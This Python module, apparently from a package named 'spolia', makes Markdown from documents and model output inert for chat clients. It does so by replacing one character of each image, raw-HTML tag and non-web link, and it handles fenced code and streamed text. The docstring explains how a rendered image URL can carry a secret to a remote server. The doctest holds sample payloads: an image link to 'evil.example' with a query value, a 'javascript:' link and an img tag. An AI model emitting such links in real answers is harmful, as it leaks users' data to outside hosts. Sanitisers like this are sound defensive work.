"""Markdown of documents and models, made inert: nothing loads by itself, and links lead to the web or to mail.

An image of a remote server tells it all that its address holds (`![x](https://…?q=secret)`), as soon as a chat client
shows the answer; `javascript:` runs. One character of such a mark is replaced, as `spolia.models.marks` does it:
`!⟦x](https://…)`, `‹img src=…>`. So no offset changes, and links, lists, tables and code stay as they are.

Source: CommonMark 0.31, sections 4.5-4.7 and 6.2-6.6.
"""

import re

from spolia.core.patterns import pattern

_LOADING = (
    "script|style|iframe|frameset|svg|math|base|object|embed|form|template|textarea|title|xmp|noembed|noframes|noscript|"
    "plaintext|pre|link|meta|body|html|head|input|button|select|video|audio|img|image|picture|source|portal"
)
"""Elements that do something without an attribute, or whose content is no Markdown."""
_PLACE = r"(?:(?!<?(?:https?://|mailto:|tel:))(?:<[^>\n/?#]{0,64}|[^ \t\n)>/?#]{0,64})[:&\\\x00-\x1f])"
"""A destination with another scheme, or with an escape that may spell one."""
_BLANK = r"[ \t]*+\n?[ \t]*+"
_LIVE = pattern(
    rf"(?<=!)\[|\](?=[(:](?:[ \t]{{64}}|{_BLANK}{_PLACE}))"
    rf"|<(?!https?://|mailto:)(?=[!?]|/?[a-z](?:[\w:.-]{{64}}|[\w:.-]*+[\s/])|/?(?:{_LOADING})>|[a-z][a-z0-9+.-]{{1,31}}:)",
    re.IGNORECASE,
)
_SHUT = {"[": "⟦", "]": "⟧", "<": "‹"}
_UNDECIDED = pattern(
    r"(?:!|\](?:[(:][ \t]*\n?[ \t]*<?(?:[^ \t\n)>/?#]{0,64}|https?:/))?|\][(:][ \t]*\n?[ \t]*<[^>\n/?#]{0,64}|"
    r"<(?:/?[a-z][\w:.+-]{0,64}|https?:/|/)?|(?:(?<=[\n\r])|\A) {0,3}(?:`+|~+)[^\n]*|(?:(?<=[\n\r])|\A) {0,3})\Z",
    re.IGNORECASE,
)
"""The end of a text that decides, with what follows, whether a mark is live or a block of code begins or ends."""
_FENCE = pattern(r"^(?P<indent> {0,3})(?P<fence>`{3,}|~{3,})(?P<info>[^\n]*)\n?", re.MULTILINE)
"""A line that may begin or end a block of code."""
_BLANK_LINE = ("\n\n", "\r\n\r\n")


def disarm(text: str) -> str:
    """Return the text with inert images, HTML, and links other than to the web; its length stays.

    >>> print(disarm("![x](https://evil.example/?q=s) [y](javascript:alert) <img src=x> <data:a>"))
    !⟦x](https://evil.example/?q=s) [y⟧(javascript:alert) ‹img src=x> ‹data:a>
    >>> disarm("[docs](https://example.org), a[i] < b, List<String>")
    '[docs](https://example.org), a[i] < b, List<String>'
    """
    # The fast path of most texts, which also leaves the large patterns uncompiled.
    if "<" not in text and "]" not in text and "![" not in text:
        return text
    parts = []
    for is_code, part in _split_code(text):
        parts.append(part if is_code else _LIVE.sub(lambda mark: _SHUT[mark[0]], part))
    return "".join(parts)


def _split_code(text: str) -> list[tuple[bool, str]]:
    """Split a text into blocks of fenced code, which a client shows as they are, and the rest.

    A fence that is indented, or below another line, may belong to a list or to HTML. From there on both readings are
    followed, and what is code in only one of them is no code.
    """
    parts, start = list[tuple[bool, str]](), 0
    open_fences = {""}  # those that may be open; "" for none
    for line in _FENCE.finditer(text.replace("\r", "\n")):
        is_table = "|" in line["info"]  # a client may read tables first
        is_sure = (
            not line["indent"] and not is_table and (not line.start() or text.endswith(_BLANK_LINE, 0, line.start()))
        )
        was_code = "" not in open_fences
        open_fences = {fence for open_fence in open_fences for fence in _open_fences_after(line, open_fence, is_sure)}
        if (is_code := "" not in open_fences) != was_code:
            place = line.start() if is_code else line.end()
            parts.append((was_code, text[start:place]))
            start = place
    return [*parts, ("" not in open_fences, text[start:])]


def _open_fences_after(line: re.Match[str], open_fence: str, is_sure: bool) -> set[str]:
    """Return the fences that may be open after a line, if this one was open before."""
    fence = line["fence"]
    if open_fence:
        return {"" if fence.startswith(open_fence) and not line["info"].strip(" \t") else open_fence}
    if fence[0] == "`" and "`" in line["info"]:
        return {""}
    return {fence} if is_sure else {"", fence}


class MarkdownStream:
    """Text that arrives in pieces, made inert as by `disarm`; undecided text waits for the next piece."""

    def __init__(self) -> None:
        self._text, self._sent = "", 0

    def feed(self, piece: str) -> str:
        """Add a piece and return the text that can be sent."""
        self._text += piece
        undecided = _UNDECIDED.search(self._text)
        return self._send(len(self._text) if undecided is None else undecided.start())

    def end(self) -> str:
        """Return the rest."""
        return self._send(len(self._text))

    def retract(self, characters: int) -> int:
        """Take back the last characters that were fed; return how many of these were sent."""
        self._text = self._text[: len(self._text) - characters]
        retracted = max(0, self._sent - len(self._text))
        self._sent -= retracted
        return retracted

    def _send(self, end: int) -> str:
        piece = disarm(self._text)[self._sent : end]
        self._sent = max(self._sent, end)
        return piece
